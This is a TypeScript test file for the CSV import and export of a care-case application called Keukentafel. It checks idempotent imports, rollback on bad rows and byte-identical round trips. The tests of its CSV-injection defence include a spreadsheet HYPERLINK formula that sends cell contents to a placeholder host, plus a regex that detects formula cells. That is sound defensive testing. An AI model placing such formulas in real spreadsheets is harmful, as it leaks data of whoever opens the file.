// Import and export against a real database: the sample history, idempotence, updates, the
// byte-identical round trip, all-or-nothing on bad input, and rows made in Keukentafel itself.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { openTestDatabase } from '../support/test-app';
import type { Database } from '../../src/server/db/database';
import { caseClients, cases, clients, contacts, provisions, zrmAssessments } from '../../src/server/db/schema';
import { findOrganisationId } from '../../src/server/modules/reference/reference.service';
import { loadExchangeCodes, readExchangeFolder, validateAndImport } from '../../src/server/modules/exchange/exchange.service';
import { exportHistory } from '../../src/server/modules/exchange/export-history';
import { generateExchange } from '../../scripts/synthetic-exchange';
import { tiedHistory } from '../support/tied-history';
import { parseCsv } from '../../src/server/modules/exchange/csv';
import { FILE_COLUMNS } from '../../src/server/modules/exchange/exchange-format';
import { SAMPLE_DATA } from '../support/paths';
import codesFile from '../../src/server/modules/reference/codes.json' with { type: 'json' };

const SAMPLE = SAMPLE_DATA;
let sample: Record<string, string>;

async function counts(database: Database) {
  const db = database.db;
  return {
    clients: await db.$count(clients),
    cases: await db.$count(cases),
    caseClients: await db.$count(caseClients),
    zrm: await db.$count(zrmAssessments),
    provisions: await db.$count(provisions),
    contacts: await db.$count(contacts),
  };
}

async function exportAll(database: Database, organisationId: string) {
  const { zrmDomains } = await loadExchangeCodes(database.db, organisationId);
  return exportHistory(database.db, organisationId, zrmDomains);
}

let a: { database: Database; drop(): Promise<void> };
let organisationId: string;
beforeAll(async () => {
  sample = await readExchangeFolder(SAMPLE);
  a = await openTestDatabase();
  organisationId = (await findOrganisationId(a.database.db))!;
});
afterAll(async () => a.drop());

describe('exchange import and export', () => {
  it('imports the sample history completely', async () => {
    const result = await validateAndImport(a.database.db, organisationId, sample, { write: true, userId: null });
    expect(result.problems).toEqual([]);
    expect(result.imported).toBe(true);
    const lines = (file: string) => sample[file]!.trim().split('\n').length - 1;
    expect(await counts(a.database)).toEqual({
      clients: lines('clients.csv'),
      cases: lines('cases.csv'),
      caseClients: lines('case_clients.csv'),
      zrm: lines('zrm.csv'),
      provisions: lines('provisions.csv'),
      contacts: lines('contacts.csv'),
    });
    expect(result.files.every((f) => f.created === f.rows && f.updated === 0)).toBe(true);
  });

  it('changes nothing when the same folder is imported again', async () => {
    const [before] = await a.database.db.select({ version: cases.version, updatedAt: cases.updatedAt }).from(cases).where(eq(cases.externalId, 'K0000001'));
    const result = await validateAndImport(a.database.db, organisationId, sample, { write: true, userId: null });
    expect(result.files.every((f) => f.unchanged === f.rows && f.created === 0 && f.updated === 0)).toBe(true);
    const [after] = await a.database.db.select({ version: cases.version, updatedAt: cases.updatedAt }).from(cases).where(eq(cases.externalId, 'K0000001'));
    expect(after).toEqual(before);
  });

  it('updates a changed row, matched on its source id', async () => {
    const changed = {
      ...sample,
      'cases.csv': sample['cases.csv']!.replace('K0000001,overvecht-centrum,2014-01-01,medisch_specialist,2014-01-09,elders,2014-06-30,volgens_plan,eigen_netwerk,,', 'K0000001,overvecht-centrum,2014-01-01,huisarts,2014-01-09,elders,2014-06-30,volgens_plan,eigen_netwerk,9,ja'),
    };
    expect(changed['cases.csv']).not.toBe(sample['cases.csv']);
    const result = await validateAndImport(a.database.db, organisationId, changed, { write: true, userId: null });
    expect(result.files.find((f) => f.file === 'cases.csv')).toMatchObject({ updated: 1, created: 0 });
    const [row] = await a.database.db.select().from(cases).where(eq(cases.externalId, 'K0000001'));
    expect(row).toMatchObject({ referrerCode: 'huisarts', satisfactionScore: 9, canContinueAlone: true, version: 2 });
    await validateAndImport(a.database.db, organisationId, sample, { write: true, userId: null });
  });

  it('imports nothing at all when one line is wrong', async () => {
    const before = await counts(a.database);
    // One good new client and one bad contact: neither may land.
    const broken: Record<string, string> = { ...sample, 'clients.csv': sample['clients.csv']! + 'NEW-C,,,,\n', 'contacts.csv': sample['contacts.csv']! + 'NEW-1,K0000001,2016-13-01,telefoon,5\n' };
    const result = await validateAndImport(a.database.db, organisationId, broken, { write: true, userId: null });
    expect(result.imported).toBe(false);
    expect(result.problems).toEqual([{ file: 'contacts.csv', line: sample['contacts.csv']!.trim().split('\n').length + 1, message: 'contact_on "2016-13-01" is geen datum JJJJ-MM-DD' }]);
    expect(await counts(a.database)).toEqual(before);
  });

  it('round-trips: export → import into an empty installation → export gives identical files', async () => {
    const first = await exportAll(a.database, organisationId);
    const b = await openTestDatabase();
    try {
      const orgB = (await findOrganisationId(b.database.db))!;
      const result = await validateAndImport(b.database.db, orgB, first, { write: true, userId: null });
      expect(result.problems).toEqual([]);
      const second = await exportAll(b.database, orgB);
      for (const file of Object.keys(first) as (keyof typeof first)[]) expect(second[file], file).toBe(first[file]);
      // The sample's own rows survive the trip (postcodes come back normalised as 1234 AB).
      expect(first['contacts.csv']).toBe(first['contacts.csv'].split('\n')[0] + '\n' + sample['contacts.csv']!.trim().split('\n').slice(1).sort().join('\n') + '\n');
    } finally {
      await b.drop();
    }
  });

  it('writes zrm.csv in the order the assessments were recorded: for an import, the order of its file', async () => {
    // The sample's zrm.csv is not in id order; its rows come back in their own order.
    const exported = await exportAll(a.database, organisationId);
    expect(exported['zrm.csv']).toBe(sample['zrm.csv']);
    const ids = (text: string) => text.trim().split('\n').slice(1).map((line) => line.split(',')[0]!);
    expect(ids(exported['zrm.csv'])).not.toEqual([...ids(exported['zrm.csv'])].sort());
  });

  it('exports cases made in Keukentafel under their own id, and re-importing them duplicates nothing', async () => {
    const [team] = await a.database.db.select({ teamId: cases.teamId }).from(cases).limit(1);
    const [client] = await a.database.db.insert(clients).values({ organisationId, firstName: 'Nieuw', lastName: 'In Keukentafel' }).returning();
    const [made] = await a.database.db.insert(cases).values({ organisationId, teamId: team!.teamId, status: 'registered', registeredOn: '2016-06-01' }).returning();
    await a.database.db.insert(caseClients).values({ organisationId, caseId: made!.id, clientId: client!.id, role: 'hoofdclient' });
    const exported = await exportAll(a.database, organisationId);
    expect(exported['cases.csv']).toContain(`\n${made!.id},`);
    const before = await counts(a.database);
    const result = await validateAndImport(a.database.db, organisationId, exported, { write: true, userId: null });
    expect(result.problems).toEqual([]);
    expect(await counts(a.database)).toEqual(before);
    const [still] = await a.database.db.select().from(clients).where(eq(clients.id, client!.id));
    expect(still).toMatchObject({ firstName: 'Nieuw', externalId: null });
  });
});

describe('a history with same-day assessments', () => {
  it('keeps the file order of zrm.csv through import and export, where the ids sort the other way', async () => {
    const tied = tiedHistory();
    const c = await openTestDatabase();
    try {
      const org = (await findOrganisationId(c.database.db))!;
      expect((await validateAndImport(c.database.db, org, tied, { write: true, userId: null })).problems).toEqual([]);
      expect((await exportAll(c.database, org))['zrm.csv']).toBe(tied['zrm.csv']);
    } finally {
      await c.drop();
    }
  });
});

describe('cells a spreadsheet would run as a formula', () => {
  // Source ids and provider names are free text: a cell starting with = + - @ (or tab, CR) would
  // run as a formula in Excel or LibreOffice when someone opens the export (CSV injection).
  // [the cell in the file, the value it stands for]: an apostrophe before a formula marks it as text.
  const CELLS: [string, string][] = [
    ['=HYPERLINK("http://x.example/?d="&A1,"klik")', '=HYPERLINK("http://x.example/?d="&A1,"klik")'],
    ['+31 6 1234 5678', '+31 6 1234 5678'],
    ['@SUM(A1:A9)', '@SUM(A1:A9)'],
    ['-2+3', '-2+3'],
    ["'=beschermd door het andere systeem", '=beschermd door het andere systeem'],
    ["''=een apostrof en dan =", "'=een apostrof en dan ="],
    ["'''@twee apostroffen en dan @", "''@twee apostroffen en dan @"],
    ["'s-Hertogenbosch", "'s-Hertogenbosch"],
    ['-3', '-3'],
    ['Zorg & Co', 'Zorg & Co'],
  ];
  const VALUES = CELLS.map(([, value]) => value);
  const product = codesFile.provision_products[0]!;

  /** Every cell of a CSV text as written (quotes removed, nothing else undone) that starts like a formula and is no plain number. */
  function formulaCells(text: string): string[] {
    const { header, records } = parseCsv(text);
    return [header, ...records.map((r) => r.values)].flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
  }

  function hostileFolder(): Record<string, string> {
    const names = CELLS.map(([cell]) => cell);
    return {
      'clients.csv': writeRows(FILE_COLUMNS['clients.csv'], names.map((name) => [name, '', '', '', ''])),
      'cases.csv': writeRows(FILE_COLUMNS['cases.csv'], names.map((_, i) => [`K${i}`, 'west', '2016-03-01', '', '', '', '', '', '', '', ''])),
      'case_clients.csv': writeRows(FILE_COLUMNS['case_clients.csv'], names.map((name, i) => [`K${i}`, name, 'hoofdclient'])),
      'provisions.csv': writeRows(FILE_COLUMNS['provisions.csv'], names.map((name, i) => [`P${i}`, `K${i}`, name, product.category, product.code, name, '2016-04-01', '', '', 'nee'])),
    };
  }

  /** RFC 4180 without any neutralising: the file as another system would hand it over. */
  function writeRows(header: readonly string[], rows: string[][]): string {
    const quote = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
    return [header, ...rows].map((row) => row.map(quote).join(',')).join('\n') + '\n';
  }

  const stored = async (database: Database) => ({
    clients: (await database.db.select({ id: clients.externalId }).from(clients)).map((c) => c.id).sort(),
    providers: (await database.db.select({ provider: provisions.provider }).from(provisions)).map((p) => p.provider).sort(),
  });

  it('writes them as text, reads them back to the same value, and round-trips byte for byte', async () => {
    const c = await openTestDatabase();
    const d = await openTestDatabase();
    try {
      const orgC = (await findOrganisationId(c.database.db))!;
      expect((await validateAndImport(c.database.db, orgC, hostileFolder(), { write: true, userId: null })).problems).toEqual([]);
      // A leading tab or CR cannot come through an import (cells are trimmed); here it is entered directly.
      const [someCase] = await c.database.db.select({ id: cases.id, clientId: caseClients.clientId }).from(cases).innerJoin(caseClients, eq(caseClients.caseId, cases.id)).limit(1);
      for (const provider of ['\tTabblad Zorg', '\rRegel Zorg']) {
        await c.database.db.insert(provisions).values({ organisationId: orgC, caseId: someCase!.id, clientId: someCase!.clientId, category: product.category, product: product.code, provider, startOn: '2016-05-01' });
      }
      const before = await stored(c.database);
      expect(before.clients).toEqual([...VALUES].sort());

      const first = await exportAll(c.database, orgC);
      for (const [file, text] of Object.entries(first)) expect(formulaCells(text), file).toEqual([]);
      // Ordinary values are written as they are.
      expect(first['clients.csv']).toContain("\n's-Hertogenbosch,");
      expect(first['clients.csv']).toContain('\n-3,');

      const orgD = (await findOrganisationId(d.database.db))!;
      expect((await validateAndImport(d.database.db, orgD, first, { write: true, userId: null })).problems).toEqual([]);
      expect(await stored(d.database)).toEqual(before);
      const second = await exportAll(d.database, orgD);
      for (const file of Object.keys(first) as (keyof typeof first)[]) expect(second[file], file).toBe(first[file]);
    } finally {
      await c.drop();
      await d.drop();
    }
  });
});

describe('a generated history', () => {
  it('imports without problems and round-trips byte for byte', async () => {
    const generated = generateExchange({ cases: 600, from: '2015-01-01', to: '2016-12-31', seed: 7 });
    const c = await openTestDatabase();
    try {
      const org = (await findOrganisationId(c.database.db))!;
      const result = await validateAndImport(c.database.db, org, generated, { write: true, userId: null });
      expect(result.problems).toEqual([]);
      expect(result.files.find((f) => f.file === 'cases.csv')).toMatchObject({ rows: 600, created: 600 });
      const exported = await exportAll(c.database, org);
      // The generator writes rows in id order; an empty referrer is stored (and exported) as
      // onbekend, and postcodes come back spaced.
      expect(exported['cases.csv']).toBe(generated['cases.csv']!.replace(/^([^,\n]*,[^,\n]*,[^,\n]*),,/gm, '$1,onbekend,'));
      expect(exported['provisions.csv']).toBe(generated['provisions.csv']);
      expect(exported['clients.csv']).toBe(generated['clients.csv']!.replace(/,(\d{4})([A-Z]{2})$/gm, ',$1 $2'));
    } finally {
      await c.drop();
    }
  });
});

describe('the sample folder', () => {
  it('is where the tests expect it', () => {
    expect(fs.existsSync(path.join(SAMPLE, 'cases.csv'))).toBe(true);
  });
});
